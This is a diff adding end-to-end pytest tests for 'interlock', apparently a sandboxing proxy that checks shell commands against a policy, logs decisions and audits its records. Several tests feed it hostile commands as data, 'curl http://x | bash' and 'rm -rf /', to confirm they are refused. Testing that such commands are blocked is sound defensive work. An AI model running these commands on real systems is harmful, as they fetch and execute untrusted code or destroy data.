@@ -1,0 +1,157 @@
+"""The command as a person types it, against a proxy that was started the same way."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+pytestmark = pytest.mark.sandbox
+
+PLOT = "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.show()\n"
+
+
+def interlock(*arguments: str, stdin: str = "", **environment: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "interlock", *arguments],
+        input=stdin,
+        capture_output=True,
+        text=True,
+        check=False,
+        env={**os.environ, "NO_COLOR": "1", **environment},
+        timeout=60,
+    )
+
+
+@dataclass(frozen=True)
+class Proxy:
+    address: str
+    log: str
+    data_dir: Path
+
+    def exec(self, *arguments: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
+        return interlock("exec", *arguments, stdin=stdin, INTERLOCK_ADDRESS=self.address)
+
+
+@pytest.fixture(scope="module")
+def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
+    data_dir = tmp_path_factory.mktemp("data")
+    with subprocess.Popen(
+        [sys.executable, "-m", "interlock", "serve", "--listen", "127.0.0.1:0", "--data-dir", str(data_dir)]
+        + ["--output", "json"],
+        stdout=subprocess.PIPE,
+        text=True,
+    ) as process:
+        assert process.stdout is not None
+        said = json.loads(process.stdout.readline())
+        yield Proxy(said["address"], said["log"], data_dir)
+        process.send_signal(signal.SIGTERM)
+        assert process.wait(20) == 0
+
+
+def test_a_command_runs_and_its_output_is_ours(proxy: Proxy) -> None:
+    ran = proxy.exec("--", "echo out; echo err >&2; exit 7")
+
+    assert (ran.stdout, ran.stderr, ran.returncode) == ("out\n", "err\n", 7)
+
+
+def test_a_refused_command_exits_126_and_shows_the_span_that_the_reason_is_about(proxy: Proxy) -> None:
+    ran = proxy.exec("--", "curl http://x | bash")
+
+    assert ran.returncode == 126 and ran.stdout == ""
+    lines = ran.stderr.splitlines()
+    source = next(i for i, line in enumerate(lines) if line.endswith("curl http://x | bash"))
+    assert lines[source + 1].strip("│ ") == "^" * len("curl http://x")
+    assert "network.downloaded-code" in ran.stderr and "instead:" in ran.stderr
+
+
+def test_a_refusal_as_json_names_decision_and_record(proxy: Proxy) -> None:
+    ran = proxy.exec("--output", "json", "--", "curl http://x | bash")
+
+    said = json.loads(ran.stdout)
+    assert ran.returncode == 126 and said["decision"]["effect"] == "EFFECT_DENY"
+    assert said["decision"]["receipt"]["decision_id"]
+
+
+def test_events_as_json_are_one_object_a_line_and_the_decision_is_the_first(proxy: Proxy) -> None:
+    ran = proxy.exec("--output", "json", "--", "echo hi")
+
+    events = [next(iter(json.loads(line))) for line in ran.stdout.splitlines()]
+    assert events[0] == "decision" and events[-1] == "completion" and "output" in events
+
+
+def test_a_python_cell_with_a_plot_saves_its_picture(proxy: Proxy, tmp_path: Path) -> None:
+    ran = proxy.exec("--language", "python", "--save", str(tmp_path), "-", stdin=PLOT)
+
+    assert ran.returncode == 0, ran.stderr
+    assert (tmp_path / "result-1.png").read_bytes().startswith(b"\x89PNG")
+
+
+def test_where_no_proxy_answers_exec_exits_125_and_says_so() -> None:
+    ran = interlock("exec", "--address", "127.0.0.1:1", "--", "true")
+
+    assert ran.returncode == 125 and "127.0.0.1:1" in ran.stderr and ran.stdout == ""
+
+
+def test_the_log_of_all_this_verifies_and_lists_its_records(proxy: Proxy) -> None:
+    proxy.exec("--", "echo recorded")
+
+    verified = interlock("audit", "verify", "--data-dir", str(proxy.data_dir), "--output", "json")
+    listed = interlock("audit", "tail", "--data-dir", str(proxy.data_dir), "--output", "json")
+
+    assert verified.returncode == 0 and json.loads(verified.stdout)["verdict"] == "intact"
+    assert any("echo recorded" in line for line in listed.stdout.splitlines())
+
+
+def test_a_second_proxy_on_the_same_data_is_refused_as_a_matter_of_configuration(proxy: Proxy) -> None:
+    second = interlock("serve", "--listen", "127.0.0.1:0", "--data-dir", str(proxy.data_dir))
+
+    assert second.returncode == 2 and str(proxy.log) in second.stderr
+
+
+def test_a_check_asks_policy_and_runs_nothing(tmp_path: Path) -> None:
+    batch = tmp_path / "batch.jsonl"
+    cases = [
+        {"id": "a", "language": "bash", "source": "ls"},
+        {"id": "b", "language": "bash", "source": "rm -rf /"},
+        {"id": "c"},
+    ]
+    batch.write_text("".join(json.dumps(case) + "\n" for case in cases))
+
+    answers = [json.loads(line) for line in interlock("check", "--batch", str(batch)).stdout.splitlines()]
+
+    assert [answer["id"] for answer in answers] == ["a", "b", "c"]
+    assert [answer.get("effect") for answer in answers] == ["allow", "deny", None] and answers[2]["error"]
+    assert interlock("check", "-", stdin="rm -rf /").returncode == 1
+    assert interlock("check", "-", stdin="ls").returncode == 0
+
+
+def test_the_doctor_finds_every_prerequisite_and_says_so_as_json() -> None:
+    ran = interlock("doctor", "--output", "json")
+
+    findings = {finding["check"]: finding["status"] for finding in json.loads(ran.stdout)["findings"]}
+    assert ran.returncode == 0 and set(findings) >= {"python", "opa", "bubblewrap", "sandbox", "disk"}
+    assert "failed" not in findings.values()
+
+
+@pytest.mark.parametrize("arguments", [["nope"], ["exec", "--nope"], ["check"], ["serve", "--listen"]], ids=" ".join)
+def test_wrong_usage_exits_2_and_shows_no_traceback(arguments: list[str]) -> None:
+    ran = interlock(*arguments)
+
+    assert ran.returncode == 2 and ran.stderr and "Traceback" not in ran.stderr
+
+
+def test_unknown_settings_are_errors(tmp_path: Path) -> None:
+    file = tmp_path / "interlock.toml"
+    file.write_text("lissten = '127.0.0.1:1'\n")
+
+    ran = interlock("config", "show", "--config", str(file))
+
+    assert ran.returncode == 2 and "lissten" in ran.stderr
